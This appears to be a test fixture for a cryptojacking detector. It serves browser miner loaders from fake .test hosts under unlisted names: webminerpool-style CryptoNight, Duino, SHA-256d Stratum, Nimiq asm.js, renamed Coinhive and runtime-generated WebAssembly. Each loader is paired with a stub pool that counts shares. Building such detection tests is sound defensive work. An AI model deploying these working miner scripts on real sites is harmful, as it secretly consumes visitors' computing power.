// Miners as they are found on sites, on hosts that no list has, under other names, each with the pool
// that it talks to: loaders written from the public interfaces of their services, the hashing from
// packages or from the platform. Every pool counts the shares that reach it.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { WebSocket } from 'ws';
import { bodyOf, html, js, sized, type Host } from '../../browser/harness/world.js';
import { Pool } from '../../browser/harness/pool.js';
import { coinhiveFiles, modules, renamed, startCoinhive } from '../hosts.js';

export interface Miner {
  readonly name: string;
  readonly host: Host;
  /** Shares that its pool took. */
  accepted(): number;
}

/** A pool that speaks as `answer` does and counts what that calls a share. */
function stub(greeting: string | null, answer: (message: string, share: () => void, send: (text: string) => void) => void): { socket: (socket: WebSocket) => void; shares: () => number } {
  let shares = 0;
  return {
    shares: () => shares,
    socket: (socket) => {
      if (greeting !== null) socket.send(greeting);
      socket.on('message', (data) => answer(String(data), () => (shares += 1), (text) => socket.send(text)));
    },
  };
}

const blob = `0707${'d2'.repeat(37)}${'00'.repeat(4)}${'7e'.repeat(33)}`;

/** webminerpool.com's loader and server: handshake, job, solved, hashsolved. */
function webminerpool(): Miner {
  const pool = stub(null, (message, share, send) => {
    if (message.includes('"handshake"')) send(JSON.stringify({ identifier: 'job', job_id: 'a1', algo: 'cn', variant: 0, blob, target: 'ffffffff', height: 1 }));
    else if (message.includes('"solved"')) {
      share();
      send(JSON.stringify({ identifier: 'hashsolved' }));
    }
  });
  const base = 'https://webminer.test';
  return {
    name: 'CryptoNight in the shape of webminerpool',
    accepted: pool.shares,
    host: {
      socket: pool.socket,
      pages: {
        ...coinhiveFiles(base, '/assets/', renamed),
        '/': html(`<script>
          let job = null;
          const worker = new Worker('/assets/task.js');
          const socket = new WebSocket('wss://webminer.test/');
          socket.onopen = () => socket.send(JSON.stringify({ identifier: 'handshake', pool: 'moneroocean.stream', login: '4${'8'.repeat(94)}', password: 'x', userid: '', version: 7 }));
          socket.onmessage = ({ data }) => {
            const message = JSON.parse(data);
            if (message.identifier !== 'job') return;
            job = message;
            worker.postMessage({ job_id: job.job_id, blob: job.blob, target: job.target, first: 0, throttle: 0 });
          };
          worker.onmessage = ({ data }) => {
            if (data.result) socket.send(JSON.stringify({ identifier: 'solved', job_id: data.job_id, nonce: data.nonce, result: data.result }));
          };
        </script>`),
      },
    },
  };
}

/** Duino-Coin's web miner: SHA-1 of the last block and a counting number, by WebCrypto in workers. */
function duino(): Miner {
  const last = '6d'.repeat(20);
  const pool = stub('3.0', (message, share, send) => {
    if (message.startsWith('JOB')) send(`${last},${'0'.repeat(40)},500`);
    else if (/^\d+,/u.test(message)) {
      share();
      send('GOOD');
    }
  });
  return {
    name: 'SHA-1 by WebCrypto in the shape of Duino',
    accepted: pool.shares,
    host: {
      socket: pool.socket,
      pages: {
        '/': html("<script>for (let index = 0; index < 2; index += 1) new Worker('/assets/app.js');</script>"),
        '/assets/app.js': js(`
          const text = new TextEncoder();
          const hex = (bytes) => Array.from(new Uint8Array(bytes), (byte) => byte.toString(16).padStart(2, '0')).join('');
          const socket = new WebSocket('wss://duino.test/');
          socket.onmessage = async ({ data }) => {
            if (data.startsWith('3') || data.startsWith('GOOD')) return socket.send('JOB,somebody,LOW,,');
            const [last, , difficulty] = data.split(',');
            const started = performance.now();
            for (let nonce = 0; nonce < 100 * difficulty + 1; nonce += 1) {
              const hash = hex(await crypto.subtle.digest('SHA-1', text.encode(last + nonce)));
              // An easy target, so that a share is found in a few hundred tries.
              if (hash.startsWith('00')) { socket.send(nonce + ',' + Math.round(nonce / (performance.now() - started) * 1000) + ',web,rig,,'); return; }
            }
          };`),
      },
    },
  };
}

/** A miner in plain JavaScript, as jsMiner and Bitp.it were: SHA-256d over a header, asked for by WebSocket. */
function plain(): Miner {
  const pool = stub(null, (message, share, send) => {
    if (message.includes('mining.subscribe')) send('{"id":1,"result":[[["mining.set_difficulty","1"],["mining.notify","1"]],"08000002",4],"error":null}');
    else if (message.includes('mining.authorize')) {
      send('{"id":2,"result":true,"error":null}');
      send('{"id":null,"method":"mining.set_difficulty","params":[0.00001]}');
      send(`{"id":null,"method":"mining.notify","params":["bf","${'4d'.repeat(32)}","${'01'.repeat(40)}","${'02'.repeat(40)}",[],"00000002","1c2ac4af","504e86b9",true]}`);
    } else if (message.includes('mining.submit')) {
      share();
      send('{"id":4,"result":true,"error":null}');
    }
  });
  return {
    name: 'SHA-256d in plain JavaScript',
    accepted: pool.shares,
    host: {
      socket: pool.socket,
      pages: {
        '/': html(`<script>
          const worker = new Worker('/assets/sum.js');
          const socket = new WebSocket('wss://plain.test/');
          socket.onopen = () => {
            socket.send('{"id":1,"method":"mining.subscribe","params":["jsminer/0.1"]}');
            socket.send('{"id":2,"method":"mining.authorize","params":["somebody.1","x"]}');
          };
          socket.onmessage = ({ data }) => {
            const { method, params } = JSON.parse(data);
            if (method === 'mining.notify') worker.postMessage(params);
          };
          worker.onmessage = ({ data }) => socket.send(JSON.stringify({ id: 4, method: 'mining.submit', params: ['somebody.1', data.job, '00000001', '504e86b9', data.nonce] }));
        </script>`),
        '/assets/sum.js': js(sha256Miner),
      },
    },
  };
}

/** FIPS 180-4, and a search with it. */
const sha256Miner = `
const K = new Uint32Array(64), H = new Uint32Array(8);
for (let n = 2, found = 0; found < 64; n += 1) {
  let prime = true;
  for (let d = 2; d * d <= n; d += 1) if (n % d === 0) prime = false;
  if (!prime) continue;
  if (found < 8) H[found] = (Math.sqrt(n) % 1) * 4294967296;
  K[found] = (Math.cbrt(n) % 1) * 4294967296;
  found += 1;
}
const W = new Uint32Array(64);
const rotate = (x, n) => (x >>> n) | (x << (32 - n));
function compress(state, block) {
  W.set(block);
  for (let i = 16; i < 64; i += 1) {
    const a = W[i - 15], b = W[i - 2];
    W[i] = W[i - 16] + (rotate(a, 7) ^ rotate(a, 18) ^ (a >>> 3)) + W[i - 7] + (rotate(b, 17) ^ rotate(b, 19) ^ (b >>> 10));
  }
  let [a, b, c, d, e, f, g, h] = state;
  for (let i = 0; i < 64; i += 1) {
    const t = (h + (rotate(e, 6) ^ rotate(e, 11) ^ rotate(e, 25)) + ((e & f) ^ (~e & g)) + K[i] + W[i]) | 0;
    const u = ((rotate(a, 2) ^ rotate(a, 13) ^ rotate(a, 22)) + ((a & b) ^ (a & c) ^ (b & c))) | 0;
    h = g; g = f; f = e; e = (d + t) | 0; d = c; c = b; b = a; a = (t + u) | 0;
  }
  return [a + state[0], b + state[1], c + state[2], d + state[3], e + state[4], f + state[5], g + state[6], h + state[7]].map((x) => x >>> 0);
}
onmessage = ({ data: [job, previous] }) => {
  const first = new Uint32Array(16), second = new Uint32Array(16);
  for (let i = 0; i < 8; i += 1) first[i] = parseInt(previous.slice(8 * i, 8 * i + 8), 16);
  second[4] = 0x80000000; second[15] = 640;
  const middle = compress(Array.from(H), first);
  let nonce = 0;
  (function round() {
    for (let count = 0; count < 2000; count += 1, nonce += 1) {
      second[3] = nonce;
      const last = new Uint32Array(16);
      last.set(compress(middle, second)); last[8] = 0x80000000; last[15] = 256;
      const hash = compress(Array.from(H), last);
      if (hash[7] < 0x00100000) postMessage({ job, nonce: nonce.toString(16).padStart(8, '0') });
    }
    setTimeout(round, 0);
  })();
};`;

/** Nimiq's miner where there is no WebAssembly: its own asm.js, and the words of a Nimiq pool. */
function nimiqAsm(): Miner {
  const pool = stub(null, (message, share, send) => {
    if (message.includes('"register"')) {
      send(JSON.stringify({ message: 'registered' }));
      send(JSON.stringify({ message: 'settings', address: 'NQ07 0000 0000 0000 0000 0000 0000 0000 0000', extraData: 'cG9vbA==', targetCompact: 0x203fffff, nonce: 7 }));
    } else if (message.includes('"share"')) share();
  });
  return {
    name: "Nimiq's Argon2d in asm.js",
    accepted: pool.shares,
    host: {
      socket: pool.socket,
      folders: { '/vendor/': join(modules, '@nimiq/core-web') },
      pages: {
        '/vendor/worker.js': js(`self.WebAssembly = undefined;${readFileSync(join(modules, '@nimiq/core-web/worker.js'), 'utf8')}`),
        '/': html('<script src="/vendor/nimiq.js"></script><script src="/start.js"></script>'),
        '/start.js': js(`(async () => {
          await Nimiq.load(location.origin + '/vendor/');
          Nimiq.GenesisConfig.test();
          const pool = new Nimiq.MinerWorkerPool(1);
          pool.noncesPerRun = 2;
          const socket = new WebSocket('wss://asm.test/');
          socket.onopen = () => socket.send(JSON.stringify({ message: 'register', mode: 'nano', address: 'NQ07 0000 0000 0000 0000 0000 0000 0000 0000', deviceId: 1, deviceName: 'web', genesisHash: 'AAAA' }));
          socket.onmessage = ({ data }) => {
            const { message, targetCompact } = JSON.parse(data);
            if (message === 'settings') pool.startMiningOnBlock(Nimiq.GenesisConfig.GENESIS_BLOCK, targetCompact);
          };
          pool.on('share', (share) => socket.send(JSON.stringify({ message: 'share', blockHeader: 'AAAA', minerAddrProof: 'AAAA', extraDataProof: 'AAAA' })));
        })();`),
      },
    },
  };
}

/** CryptoNight that asks for work and hands in shares over HTTP: `send` says how. */
function overHttp(name: string, host: string, send: string): Miner {
  let shares = 0;
  const handle: Host['handle'] = async (request, url) => {
    if (url.pathname !== '/api') return undefined;
    const { method } = JSON.parse((await bodyOf(request)).toString()) as { method?: string };
    if (method === 'submit') shares += 1;
    const body = method === 'login' ? { id: 1, result: { id: 'a1', job: { job_id: 'j1', blob, target: 'ffffffff', algo: 'cn/0' }, status: 'OK' } } : { id: 2, result: { status: 'OK' } };
    return sized('application/json', JSON.stringify(body));
  };
  return {
    name,
    accepted: () => shares,
    host: {
      handle,
      pages: {
        ...coinhiveFiles(`https://${host}`, '/assets/', renamed),
        '/': html(`<script>
          const worker = new Worker('/assets/task.js');
          const ask = ${send};
          ask({ id: 1, method: 'login', params: { login: '4${'8'.repeat(94)}', pass: 'x', agent: 'web/1.0' } }).then(({ result }) => {
            worker.postMessage({ job_id: result.job.job_id, blob: result.job.blob, target: result.job.target, first: 0, throttle: 0 });
          });
          worker.onmessage = ({ data }) => {
            if (data.result) ask({ id: 2, method: 'submit', params: { id: 'a1', job_id: data.job_id, nonce: data.nonce, result: data.result } }).catch(() => { window.failed = true; });
          };
        </script>`),
      },
    },
  };
}

/** Coinhive's shape, renamed, with these options. */
function coinhive(name: string, host: string, options: string): Miner {
  const pool = new Pool();
  return {
    name,
    accepted: () => pool.shares.length,
    host: {
      socket: pool.socket,
      pages: {
        ...coinhiveFiles(`https://${host}`, '/assets/', renamed),
        '/': html(`<script>var COINHIVE_POOL = 'wss://${host}/feed';</script><script src="/assets/app.js"></script>${startCoinhive(renamed.api, options)}`),
      },
    },
  };
}

/** The package's own Keccak miner, renamed, with a pool of its own words. */
function keccak(): Miner {
  const pool = stub(null, (message, share, send) => {
    if (message.includes('"work"')) send('{"for":"work","header":7,"zeros":2}');
    else if (message.includes('"done"')) share();
  });
  return {
    name: 'Keccak of wasm-miner',
    accepted: pool.shares,
    host: {
      socket: pool.socket,
      pages: {
        '/assets/lib.js': js(readFileSync(join(modules, '@blackhan-software/wasm-miner/dist/index.umd.js'), 'utf8')),
        '/': html(`<script src="/assets/lib.js"></script><script>
          const socket = new WebSocket('wss://sponge.test/');
          socket.onopen = () => socket.send('{"ask":"work"}');
          socket.onmessage = async ({ data }) => {
            const { header, zeros } = JSON.parse(data);
            const hasher = await minewasm.KeccakHasher();
            let next = 0;
            (function round() {
              hasher.reduce(new Uint8Array(40).fill(header), { callback: () => socket.send('{"done":' + next + '}'), range: [BigInt(next), BigInt(next + 2000)], zeros });
              next += 2000;
              setTimeout(round, 10);
            })();
          };
        </script>`),
      },
    },
  };
}

/**
 * The way of RandomX miners that compile at run time: eight small modules for each hash, each a random
 * program over a scratchpad, used once. Written from the specification's outline; the mixing is only
 * as good as a test needs.
 */
function generated(): Miner {
  const pool = stub(null, (message, share) => {
    if (message.startsWith('found')) share();
  });
  return {
    name: 'programs compiled at run time, in the way of RandomX',
    accepted: pool.shares,
    host: {
      socket: pool.socket,
      pages: { '/': html("<script>const socket = new WebSocket('wss://programs.test/'); const worker = new Worker('/assets/run.js'); worker.onmessage = ({ data }) => socket.send('found ' + data);</script>"), '/assets/run.js': js(programMiner) },
    },
  };
}

const programMiner = `
const leb = (value) => { const out = []; do { let byte = value & 127; value >>>= 7; if (value) byte |= 128; out.push(byte); } while (value); return out; };
const section = (id, body) => [id, ...leb(body.length), ...body];
const memory = new WebAssembly.Memory({ initial: 33 });
const words = new Uint32Array(memory.buffer);
let state = 1;
const random = () => { state = Math.imul(state ^ (state >>> 15), 0x2c1b3c6d) + 0x9e3779b9 | 0; return (state ^ (state >>> 13)) >>> 0; };
// i64.add, sub, mul, xor, rotl, rotr
const operators = [0x7c, 0x7d, 0x7e, 0x85, 0x89, 0x8a];
function program() {
  const body = [0x02, 0x08, 0x7e, 0x01, 0x7f, 0x03, 0x40]; // eight i64, one i32; a loop
  for (let at = 0; at < 256; at += 1) {
    const to = random() & 7, from = random() & 7, level = random() & 3;
    const mask = [0xf8, 0xff, level ? 0 : 0x0f]; // words of 16 KiB or of 256 KiB
    body.push(0x20, to);
    if (random() & 1) body.push(0x20, from);
    else body.push(0x20, from, 0xa7, 0x41, ...mask, 0x71, 0x29, 3, 0);
    body.push(operators[random() % 6], 0x21, to);
  }
  body.push(0x41, 0, 0x20, 0, 0x37, 3, 0, 0x20, 8, 0x41, 1, 0x6a, 0x22, 8, 0x41, 0xc0, 0, 0x49, 0x0d, 0, 0x0b, 0x0b);
  return new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, ...section(1, [1, 0x60, 0, 0]), ...section(2, [1, 1, 101, 1, 109, 2, 0, 1]), ...section(3, [1, 0]), ...section(7, [1, 1, 100, 0, 0]), ...section(10, [1, ...leb(body.length), ...body])]);
}
let nonce = 0;
(function round() {
  for (let count = 0; count < 4; count += 1, nonce += 1) {
    words.fill(nonce, 0, 4096);
    for (let at = 0; at < 8; at += 1) new WebAssembly.Instance(new WebAssembly.Module(program()), { e: { m: memory } }).exports.d();
    // A share is rare, as at any pool.
    if (nonce % 2000 === 1999) postMessage(nonce);
  }
  setTimeout(round, 0);
})();`;

/** Every miner, by the host that it is served from. */
export function unlisted(): Readonly<Record<string, Miner>> {
  return {
    'webminer.test': webminerpool(),
    'duino.test': duino(),
    'plain.test': plain(),
    'sponge.test': keccak(),
    'programs.test': generated(),
    'asm.test': nimiqAsm(),
    'fetch.test': overHttp('CryptoNight over fetch', 'fetch.test', "(message) => fetch('/api', { method: 'POST', body: JSON.stringify(message) }).then((response) => response.json())"),
    'xhr.test': overHttp(
      'CryptoNight over XMLHttpRequest',
      'xhr.test',
      `(message) => new Promise((done, failed) => {
        const request = new XMLHttpRequest();
        request.open('POST', '/api');
        request.onload = () => done(JSON.parse(request.responseText));
        request.onerror = failed;
        request.send(JSON.stringify(message));
      })`,
    ),
    'several.test': coinhive('CryptoNight in three workers', 'several.test', '{ threads: 3 }'),
    'throttled.test': coinhive('CryptoNight throttled to a tenth', 'throttled.test', '{ threads: 1, throttle: 0.9 }'),
  };
}
